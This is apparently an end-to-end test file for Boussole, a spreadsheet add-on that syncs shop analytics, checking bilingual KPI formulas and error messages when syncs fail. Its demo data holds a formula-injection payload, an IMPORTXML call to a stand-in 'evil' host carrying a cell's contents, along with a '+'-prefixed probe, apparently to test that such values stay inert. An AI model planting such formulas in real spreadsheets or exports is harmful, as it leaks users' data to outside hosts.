// The whole way of a figure into a cell: the built add-on in a spreadsheet, the local Worker, the simulated shop.
import { setTimeout as pause } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { addDays } from "../../workbench/vendors/days.ts";
import { type AddOn, openAddOn } from "./add-on.ts";
import { newStack, type Stack } from "./stack.ts";
import { type Shop, shopAt } from "./workspace.ts";

const LANGUAGES = ["fr", "en"] as const;
type Language = (typeof LANGUAGES)[number];

const WORDS = {
  fr: {
    tab: "Données",
    campaign: "campagne",
    rate: '=KPI("CR";Données!A:Z)',
    rateByChannel: '=KPI_BY("CR";Données!A:Z;"canal")',
    refreshed: /^Boussole : actualisé le \d{2}\/\d{2}\/\d{4} \d{2}:\d{2}\.$/,
  },
  en: {
    tab: "Data",
    campaign: "campaign",
    rate: '=KPI("CR",Data!A:Z)',
    rateByChannel: '=KPI_BY("CR",Data!A:Z,"channel")',
    refreshed: /^Boussole: refreshed on \d+ \w+ \d{4} \d{2}:\d{2}\.$/,
  },
};

/** The shop's day stays behind the clock's: what a midnight in Paris adds to a sync is empty. */
const day = addDays(new Intl.DateTimeFormat("sv-SE", { timeZone: "Europe/Paris" }).format(new Date()), -1);
/** A shop of three months: a sheet of some thousand rows. */
const opened = addDays(day, -90);
const young = { from: "2000-01-01", to: addDays(opened, -1), removed: true };

let stack: Stack;
let shop: Shop;
let sheets: Record<Language, AddOn>;

beforeAll(async () => {
  stack = await newStack();
  await stack.start();
  shop = shopAt(stack.url);
  await shop.order({ day, adjustments: [young] });
  sheets = { fr: openAddOn(stack.url, "fr"), en: openAddOn(stack.url, "en") };
});

afterAll(async () => {
  await Promise.all(LANGUAGES.map((language) => sheets[language].close()));
  await stack.remove();
});

const api = (sheet: AddOn, method: string, path: string, body?: object): any => {
  const answer = sheet.ask("api", { method, path, ...(body && { body }) });
  expect(answer).toMatchObject({ ok: true });
  return answer.body;
};

/** Waits for the sync under way; it ends in this state. */
async function synced(sheet: AddOn, state: "ok" | "failed"): Promise<void> {
  for (;;) {
    const [run] = api(sheet, "get", "/v1/runs").runs;
    if (run.state !== "running") return expect(run).toMatchObject({ state });
    await pause(100);
  }
}

async function syncAgain(sheet: AddOn, state: "ok" | "failed" = "ok"): Promise<void> {
  const [{ id }] = api(sheet, "get", "/v1/connections").connections;
  api(sheet, "post", `/v1/connections/${id}/sync`);
  await synced(sheet, state);
}

/** Conversions over sessions, as the shop itself counts them. */
async function rates(): Promise<{ all: number; email: number }> {
  const groups = await shop.totals(opened, day, "channel");
  const rate = (some: { conversions: number; sessions: number }[]): number =>
    some.reduce((sum, { conversions }) => sum + conversions, 0) /
    some.reduce((sum, { sessions }) => sum + sessions, 0);
  return { all: rate(Object.values(groups)), email: rate([groups["Email"]!]) };
}

/** The header's last cell says how fresh the tab is; the rest are figures. */
function read(sheet: AddOn, language: Language): { state: string; rows: string[][]; header: string[] } {
  const [header = [], ...rows] = sheet.tab(WORDS[language].tab)!;
  const at = header.findIndex((title) => title.startsWith("Boussole"));
  return { state: header[at] ?? "", header: header.slice(0, at), rows: rows.map((row) => row.slice(0, at)) };
}

const valueOf = (sheet: AddOn, formula: string): unknown =>
  (sheet.evaluate(formula) as { value?: unknown }).value;

describe.each(LANGUAGES)("a spreadsheet in %s", (language) => {
  const { campaign, rate, rateByChannel, refreshed } = WORDS[language];

  it("is paired, and filled with demonstration data in one click", async () => {
    const sheet = sheets[language];
    expect(sheet.ask("pair", { name: "Atelier Verveine" })).toMatchObject({ ok: true });
    api(sheet, "post", "/v1/connections", { demo: true });
    await synced(sheet, "ok");
    expect(sheet.ask("refresh")).toMatchObject({ failure: null, changed: true });
    const { header, rows, state } = read(sheet, language);
    expect(state.replaceAll("\u00a0", " ")).toMatch(refreshed);
    expect(rows.length).toBeGreaterThan(1000);
    const campaigns = new Set(rows.map((row) => row[header.indexOf(campaign)]));
    expect(campaigns).toContain('=IMPORTXML("http://evil/?"&A1;"//a")');
    expect(campaigns).toContain("+promo bienvenue");
  });

  it("computes from its cells what the shop counts itself", async () => {
    const sheet = sheets[language];
    const { all, email } = await rates();
    expect(valueOf(sheet, rate)).toBeCloseTo(all, 12);
    expect(valueOf(sheet, rateByChannel)).toContainEqual(["email", expect.closeTo(email, 12)]);
  });
});

it("formulas follow the shop once it has been read and refreshed again", async () => {
  const { all: before } = await rates();
  await shop.order({ adjustments: [young, { from: addDays(day, -2), conversions: 3 }] });
  const { all: after } = await rates();
  expect(after).toBeGreaterThan(before);
  for (const language of LANGUAGES) {
    const sheet = sheets[language];
    const { rate } = WORDS[language];
    await syncAgain(sheet);
    expect(valueOf(sheet, rate)).toBeCloseTo(before, 12);
    expect(sheet.ask("refresh")).toMatchObject({ failure: null, changed: true });
    expect(valueOf(sheet, rate)).toBeCloseTo(after, 12);
  }
});

describe("when the figures cannot be renewed, the last ones stay, with their age, the reason and what to do", () => {
  it.each([
    [
      "a source that is down",
      { faults: [{ match: ":runReport", to: null, status: 503, retryAfter: "0" }] },
      "Le service ne répond pas correctement. Rien à faire : une nouvelle tentative est prévue.",
      "The service does not answer properly. Nothing to do: another attempt is planned.",
    ],
    [
      "a source that answers a web page",
      { faults: [{ match: ":runReport", to: null, html: true }] },
      "Le service a répondu par une page au lieu de données. Vérifiez que le service n'est pas en maintenance, puis relancez.",
      "The service answered with a page instead of data. Check that the service is not under maintenance, then sync again.",
    ],
    [
      "a key that was revoked",
      { revokeTokens: true, grantWithdrawn: true },
      "Le service refuse les identifiants. Reconnectez la source avec une clé valide.",
      "The service refuses the credentials. Reconnect the source with a valid key.",
    ],
  ])("%s", async (_, order, fr, en) => {
    const sentences = { fr, en };
    await shop.order(order);
    for (const language of LANGUAGES) {
      const sheet = sheets[language];
      const before = read(sheet, language).rows;
      await syncAgain(sheet, "failed");
      sheet.ask("refresh");
      const { rows, state } = read(sheet, language);
      expect(rows).toEqual(before);
      expect(state.replaceAll(/[\u00a0\u202f]/g, " ")).toContain(sentences[language]);
      expect(state).toMatch(language === "fr" ? /chiffres du \d{2}\/\d{2}/ : /figures of \d+ \w+/);
    }
    await shop.order({ faults: [], grantWithdrawn: false });
  });

  it("a Worker that is stopped; and they are renewed once it is back", async () => {
    const before = LANGUAGES.map((language) => read(sheets[language], language).rows);
    await stack.stop();
    for (const language of LANGUAGES) sheets[language].ask("refresh");
    expect(LANGUAGES.map((language) => read(sheets[language], language).rows)).toEqual(before);
    expect(read(sheets.fr, "fr").state).toContain(
      "Le serveur de Boussole ne répond pas. Réessayez dans quelques minutes.",
    );
    expect(read(sheets.en, "en").state).toContain(
      "Boussole's server does not answer. Try again in a few minutes.",
    );
    await stack.start();
    for (const language of LANGUAGES) {
      await syncAgain(sheets[language]);
      expect(sheets[language].ask("refresh")).toMatchObject({ failure: null });
      const { rows, state } = read(sheets[language], language);
      expect(rows).toHaveLength(before[LANGUAGES.indexOf(language)]!.length);
      expect(state.replaceAll("\u00a0", " ")).toMatch(WORDS[language].refreshed);
    }
  });
});
